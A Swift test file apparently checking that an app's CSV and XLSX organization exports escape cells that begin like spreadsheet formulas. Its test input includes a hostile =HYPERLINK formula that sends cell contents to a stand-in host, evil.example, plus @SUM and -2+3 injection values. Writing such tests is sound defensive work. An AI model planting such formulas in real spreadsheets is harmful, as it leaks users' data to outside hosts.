import Foundation
import HopTacCore
import Testing
import Vapor
@testable import App

@Suite("Exports: text that starts like a formula is written as text in CSV and XLSX")
struct ExportSafetyTests {
    @Test("a name imported as =HYPERLINK(…) downloads as text; negative numbers stay numbers")
    func formulaInjection() async throws {
        try await TestApp.run { app, admin in
            let hostile = #"=HYPERLINK("http://evil.example/x"&A1,"Bấm")"#
            let escaped = hostile.replacingOccurrences(of: "\"", with: "\\\"")
            try await admin.createOrganization(name: escaped, code: "4201000001", extra: #", "short_name": "@SUM(A1:A9)", "address": "-2+3""#)
            let csv = try await admin.get("/organizations.csv?province=42")
            #expect(csv.status == .ok)
            let lines = csv.body.string.split(separator: "\r\n").map(String.init)
            let record = try #require(lines.first { $0.contains("HYPERLINK") })
            let cells = CSV.parse(record).first ?? []
            for cell in cells where !cell.isEmpty {
                #expect(!["=", "+", "@"].contains(cell.first) && !(cell.first == "-" && VietnameseNumber.parse(cell) == nil), "CSV cell “\(cell)” could run as a formula")
            }
            #expect(cells.contains("'" + hostile) && cells.contains("'@SUM(A1:A9)") && cells.contains("'-2+3"))

            let xlsx = try await admin.get("/organizations.xlsx?province=42")
            let sheet = try SpreadsheetFile.read(Data(xlsx.bodyBytes), filename: "to-chuc.xlsx")
            let texts = sheet.rows.flatMap(\.cells).compactMap { cell -> String? in if case .text(let text) = cell { text } else { nil } }
            #expect(texts.contains("'" + hostile))
            #expect(!texts.contains { ["=", "+", "@"].contains($0.first) }, "no XLSX text cell starts like a formula")
        }
    }
}
